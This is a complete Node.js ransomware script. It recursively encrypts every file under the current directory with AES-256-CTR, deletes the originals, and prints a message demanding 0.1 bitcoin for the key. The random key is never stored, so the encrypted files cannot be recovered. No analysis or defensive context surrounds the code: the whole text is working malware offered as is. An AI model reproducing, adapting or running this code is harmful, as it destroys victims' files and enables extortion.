const fs = require('fs'), path = require('path'), crypto = require('crypto');
const key = crypto.randomBytes(32);
function walk(dir) {
  for (const name of fs.readdirSync(dir)) {
    const file = path.join(dir, name);
    if (fs.statSync(file).isDirectory()) { walk(file); continue; }
    const cipher = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16));
    fs.writeFileSync(file + '.locked', Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));
    fs.unlinkSync(file);
  }
}
walk(process.cwd());
console.log('Your files have been encrypted. Send 0.1 bitcoin to get the key to decrypt them.');
